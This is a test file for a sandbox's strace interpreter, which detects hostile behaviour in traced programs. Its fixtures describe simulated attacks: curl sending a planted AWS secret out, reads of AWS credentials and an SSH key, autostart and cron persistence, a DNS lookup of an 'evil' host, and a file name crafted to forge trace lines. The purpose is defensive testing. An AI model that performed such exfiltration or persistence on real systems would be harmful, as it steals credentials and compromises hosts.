/**
 * Reading strace's output: lines as strace 6.1 prints them (taken from real runs), processes followed across
 * clone/vfork/clone3 whatever the order of their lines, working directories, sockets, DNS questions, planted
 * secrets; and, in a real traced run, file names built to confuse a reader.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseDnsQuery } from '../../src/sandbox/trace/dns.js';
import { TraceInterpreter, type TraceContext } from '../../src/sandbox/trace/interpret.js';
import { parseTraceLine } from '../../src/sandbox/trace/syscall-line.js';
import { runPython } from './helpers.js';

const context: TraceContext = {
  entryProgram: '/gatehouse/env/bin/python',
  entryCwd: '/sandbox/work',
  paths: { pythonPrefix: '/opt/python', hostHome: '/root' },
  honeypots: new Map([['/sandbox/home/.aws/credentials', 'aws-credentials']]),
  canaries: [{ name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00' }],
};

function read(lines: string[]) {
  const interpreter = new TraceInterpreter(context);
  for (const line of lines) interpreter.line(line);
  return interpreter.finish();
}

test('syntax: strings with escapes, -y paths, errno, pid comments, structs, calls, abstract sockets', () => {
  const open = parseTraceLine('7 openat(AT_FDCWD</sandbox/work>, "a\\"b\\\\c\\n\\303\\251", O_RDONLY|O_CLOEXEC) = 3</sandbox/work/a"b\\\\c\\n\\303\\251>');
  assert.equal(open.kind, 'syscall');
  if (open.kind !== 'syscall') return;
  assert.deepEqual(open.line.args[0], { t: 'atom', text: 'AT_FDCWD', path: '/sandbox/work' });
  assert.equal((open.line.args[1]?.t === 'str' ? open.line.args[1].bytes.toString() : undefined), 'a"b\\c\né');
  assert.equal(open.line.retPath, '/sandbox/work/a"b\\c\né');
  const failed = parseTraceLine('7 execve("/usr/bin/pwsh", ["pwsh", "-c", "x"], 0x7ffc /* 12 vars */) = -1 ENOENT (No such file or directory)');
  assert.ok(failed.kind === 'syscall' && failed.line.errno === 'ENOENT' && failed.line.ret === '-1');
  const clone = parseTraceLine("5 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, child_tidptr=0x7f) = 2 /* 20243 in strace's PID NS */");
  assert.ok(clone.kind === 'syscall' && clone.line.childPid === 20243);
  const unix = parseTraceLine('9 connect(3<socket:[1]>, {sa_family=AF_UNIX, sun_path=@"/tmp/.X11-unix/X0"}, 20) = -1 ECONNREFUSED (Connection refused)');
  assert.ok(unix.kind === 'syscall');
  assert.deepEqual(parseTraceLine('9 <... vfork resumed>) = 3 /* 99 in strace\'s PID NS */').kind, 'resumed');
  assert.deepEqual(parseTraceLine('9 +++ exited with 0 +++').kind, 'notice');
  assert.throws(() => parseTraceLine('garbage'));
});

test('DNS questions are read from the bytes sent; responses and junk are not questions', () => {
  const query = Buffer.from('fdd901000001000000000000046576696c076578616d706c6503636f6d0000010001', 'hex');
  assert.deepEqual(parseDnsQuery(query), { name: 'evil.example.com', type: 'A' });
  const response = Buffer.from(query);
  response[2] = 0x81;
  assert.equal(parseDnsQuery(response), undefined);
  assert.equal(parseDnsQuery(Buffer.from('hello\0\x01')), undefined);
});

test('only the entry program and its descendants count, however their lines interleave', () => {
  const { events, unreadLines } = read([
    '100 execve("/usr/bin/bwrap", ["bwrap"], 0x1 /* 3 vars */) = 0',
    '101 openat(AT_FDCWD</>, "/root/.ssh/id_rsa", O_RDONLY) = -1 ENOENT (No such file or directory)',
    '102 execve("/gatehouse/env/bin/python", ["/gatehouse/env/bin/python", "driver.py"], 0x1 /* 3 vars */) = 0',
    '102 vfork( <unfinished ...>',
    '103 execve("/usr/bin/curl", ["curl", "-d", "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00", "http://x"], 0x1 /* 3 vars */ <unfinished ...>',
    '102 <... vfork resumed>) = 2 /* 103 in strace\'s PID NS */',
    '103 <... execve resumed>) = 0',
    '103 connect(3<socket:[77]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}, 16) = 0',
    '103 sendmmsg(3<socket:[77]>, [{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="\\375\\331\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1x\\7example\\0\\0\\1\\0\\1", iov_len=27}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=27}], 1, MSG_NOSIGNAL) = 1',
    '103 connect(4<socket:[78]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)',
  ]);
  assert.equal(unreadLines, 0);
  assert.deepEqual(events, [
    { kind: 'exec', program: '/usr/bin/curl', argv: ['curl', '-d', 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00', 'http://x'], ok: true },
    { kind: 'canary', name: 'AWS_SECRET_ACCESS_KEY', where: 'command line', detail: '/usr/bin/curl' },
    { kind: 'dns', name: 'x.example', type: 'A' },
    { kind: 'connect', family: 'inet6', address: '2001:db8::1', port: 443, via: 'connect', ok: false, errno: 'ENETUNREACH' },
  ]);
});

test('paths resolve against each process\'s working directory, inherited by children, and HOME reads as ~', () => {
  const { events } = read([
    '1 execve("/gatehouse/env/bin/python", ["python"], 0x1 /* 3 vars */) = 0',
    '1 chdir("/home/builder/.config")       = 0',
    '1 clone(child_stack=NULL, flags=SIGCHLD) = 2 /* 2 in strace\'s PID NS */',
    '2 mkdir("autostart", 0777) = 0',
    '2 openat(AT_FDCWD</sandbox/home/.config>, "autostart/x.desktop", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</sandbox/home/.config/autostart/x.desktop>',
    '1 rename("../.aws/credentials", "/tmp/c") = -1 EROFS (Read-only file system)',
    '1 openat(AT_FDCWD</sandbox/home/.config>, "../.aws/credentials", O_RDONLY|O_CLOEXEC) = 3</sandbox/home/.aws/credentials>',
    '1 write(5<socket:[9]>, "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00", 40) = 40',
    '1 write(6</sandbox/tmp/loot>, "key=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00", 44) = 44',
    '1 openat2(AT_FDCWD</sandbox/home/.config>, "/etc/cron.d/job", {flags=O_WRONLY|O_CREAT, mode=0644, resolve=0}, 24) = -1 EROFS (Read-only file system)',
  ]);
  assert.deepEqual(events, [
    { kind: 'file', op: 'mkdir', path: '~/.config/autostart', area: 'home', ok: true },
    { kind: 'file', op: 'write', path: '~/.config/autostart/x.desktop', area: 'home', ok: true },
    { kind: 'file', op: 'rename', path: '/tmp/c', area: 'tmp', ok: false, errno: 'EROFS', from: '~/.aws/credentials' },
    { kind: 'file', op: 'read', path: '~/.aws/credentials', area: 'home', ok: true, honeypot: 'aws-credentials' },
    // The socket was never connected in the run: it is one of the run's own output channels, searched as a whole.
    { kind: 'canary', name: 'AWS_SECRET_ACCESS_KEY', where: 'file', detail: '/tmp/loot' },
    { kind: 'file', op: 'write', path: '/etc/cron.d/job', area: 'system', ok: false, errno: 'EROFS' },
  ]);
});

test('in a real run, file names made to confuse a reader are reported as they are', async () => {
  const weird = 'x"> = 0\\n7 openat(AT_FDCWD, "fake") = 3\n<y';
  const out = await runPython(`import os\nos.makedirs(os.path.expanduser("~/.config/autostart"), exist_ok=True)\nopen(os.path.expanduser("~/.config/autostart/" + ${JSON.stringify(weird)}), "w").write("x")\n`, { trace: true });
  assert.equal(out.exitCode, 0, out.output);
  assert.equal(out.traceProblems.unreadLines, 0, out.traceProblems.firstUnreadLine);
  const writes = out.events.filter((e) => e.kind === 'file' && e.op === 'write');
  assert.deepEqual(writes.map((e) => e.kind === 'file' && e.path), [`~/.config/autostart/${weird}`]);
});
